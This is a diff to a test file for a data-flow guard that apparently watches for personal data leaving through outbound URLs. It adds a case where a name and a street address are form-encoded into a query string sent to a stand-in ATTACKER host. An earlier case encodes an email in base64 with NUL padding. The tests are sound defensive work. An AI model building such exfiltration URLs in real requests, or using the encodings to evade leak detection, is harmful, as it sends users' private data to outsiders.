@@ -54,4 +54,10 @@ describe("guard with flow tracking on disguised values", () => {
   it("sees an email base64-encoded with NUL bytes after it", async () => {
     expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(Buffer.concat([Buffer.from(EMAIL), Buffer.alloc(8)]))}` })).toContain(FLOW);
   });
+
+  it("sees a name and an address form-encoded in a query string (spaces as `+`, no `%`)", async () => {
+    expect(await send({ name: "Jane Doe" }, { url: `${ATTACKER}?name=Jane+Doe` })).toContain(FLOW);
+    const address = "1600 Pennsylvania Avenue NW, Washington, DC 20500";
+    expect(await send({ address }, { url: `${ATTACKER}?a=1600+Pennsylvania+Avenue+NW,+Washington,+DC+20500` })).toContain(FLOW);
+  });
 });
